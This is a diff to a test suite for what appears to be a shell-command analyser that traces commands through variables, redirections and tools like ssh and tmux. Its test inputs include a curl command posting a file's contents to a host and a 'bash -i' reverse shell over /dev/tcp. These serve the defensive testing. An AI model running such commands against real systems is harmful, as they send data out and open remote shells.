@@ -192,6 +192,8 @@ describe('literal text is followed through variables and decoders', () => {
     ['ls | xargs rm', 'ls', 'xargs: rm ?'],
     ['parallel curl ::: a b', 'parallel: curl a', 'parallel: curl b'],
     ['while read h; do curl $h; done <<E\na\nb\nE', 'read h', 'curl a', 'read h', 'curl b'],
+    ['curl -d "$(<f)" h', 'substitution:', 'curl -d ? h'],
+    ['echo x > f; curl -d "$(<f)" h', 'echo x', 'substitution:', 'curl -d x h'],
     ['curl $UNSET/x "${T:-d}"', 'curl ?/x d'],
   ]);
 
@@ -281,6 +283,8 @@ describe('redirections', () => {
     expect(redirections('{ a; } 2>e >o')).toEqual(['2>e', '1>o']);
     expect(redirections("sh -c 'bash -i' < /dev/tcp/h/1")).toEqual(['0</dev/tcp/h/1']);
     expect(redirections('while read l; do $l; done <&5', 1)).toEqual(['0<&5']);
+    expect(redirections('{ a | b; } <i >o', 0)).toEqual(['0<i']);
+    expect(redirections('{ a | b; } <i >o', 1)).toEqual(['1>o']);
     expect(redirections('exec {s}<>x')).toEqual(['s<>x']);
   });
 });
@@ -324,6 +328,7 @@ describe('elsewhere', () => {
 
   check([
     ['docker ps -a', 'docker ps -a'],
+    ['docker run -d img -o p:1', 'docker run -d img -o p:1'],
     ['ssh -o ProxyCommand="nc %h 1" h', 'ssh -o ProxyCommand=nc %h 1 h', 'ssh ProxyCommand: nc %h 1'],
     ["tmux new -d -s m './m -o p'", 'tmux new -d -s m ./m -o p', 'tmux: ./m -o p'],
     ["tmux send-keys -t m 'id' Enter", 'tmux send-keys -t m id Enter', 'tmux: id'],
